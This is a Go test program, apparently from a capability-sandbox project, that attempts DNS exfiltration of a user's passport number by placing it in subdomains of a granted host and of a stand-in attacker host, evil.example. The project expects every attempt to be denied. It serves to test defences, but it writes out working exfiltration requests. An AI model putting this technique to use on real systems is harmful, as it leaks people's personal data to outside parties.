// Command exfil-subdomain tries to carry Alice's passport out in a host
// name (DNS exfiltration): spliced unread into the authority, then read
// and used as a subdomain of the granted and the evil origin. The origin
// is fixed by the capability (caps/net) and the flow is checked first
// (law 7): EFLOW or EDENIED, nothing resolved or sent.
package main

import (
	"encoding/json"
	"strings"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
	"github.com/mandatevm/mandate/internal/attacks/attack"
)

func main() {
	in := attack.ReadInput()
	web := attack.Must(mandate.Lookup("web"))
	mydata := attack.Must(mandate.Lookup("mydata"))
	pb, err := mydata.Call("read", []byte(`{"owner":"alice","fields":["passport"]}`))
	attack.Rec("read_unread", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://" + abi.SplicePlaceholder(0) + ".granted.example:" + in.GrantedPort + "/api", Splice: []abi.Handle{pb.Handle()}})
	attack.Rec("splice_subdomain", err)
	// Even without data, a subdomain is another origin.
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://public.granted.example:" + in.GrantedPort + "/api"})
	attack.Rec("subdomain_clean", err)
	raw, err := pb.Bytes()
	attack.Rec("read", err)
	var r struct {
		Fields struct{ Passport string } `json:"fields"`
	}
	json.Unmarshal(raw, &r)
	p := strings.ToLower(r.Fields.Passport)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://" + p + ".granted.example:" + in.GrantedPort + "/api"})
	attack.Rec("subdomain_granted", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "http://" + p + ".evil.example:" + in.EvilPort + "/"})
	attack.Rec("subdomain_evil", err)
	attack.Finish()
}

func fetch(c mandate.Cap, r abi.HTTPRequest) (mandate.Blob, error) {
	b, _ := abi.EncodeHTTPRequest(r)
	return c.Call("fetch", b)
}
